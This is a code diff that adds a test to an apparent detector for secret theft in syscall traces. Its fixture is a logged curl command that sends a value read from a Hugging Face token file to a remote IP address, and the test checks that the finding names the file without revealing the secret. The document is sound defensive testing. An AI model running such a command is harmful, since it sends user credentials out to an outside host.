@@ -66,6 +66,16 @@ describe('what is no proof', () => {
   });
 });
 
+it('a value in a subject is named, not spelled, so that the finding is the same one in the next run', () => {
+  const sent = (secret: string) =>
+    run([`100 execve("/usr/bin/curl", ["curl", "https://203.0.113.7/${secret}"], 0x7ffd /* 1 var */) = 0`]).findings;
+  expect(sent(SECRET).map(({ subject }) => subject)).toContain(
+    'the value of /home/model/.cache/huggingface/token as it is',
+  );
+  expect(JSON.stringify(sent(SECRET).map(({ subject }) => subject))).not.toContain(SECRET);
+  expect(sent('index.html').map(({ subject }) => subject)).not.toContain(undefined);
+});
+
 describe('proof of theft says what, where it went and how', () => {
   const explained = (lines: readonly string[]): string | undefined =>
     run(lines).findings.find(({ rule }) => rule === 'DYN-THEFT-PROOF')?.explanation;
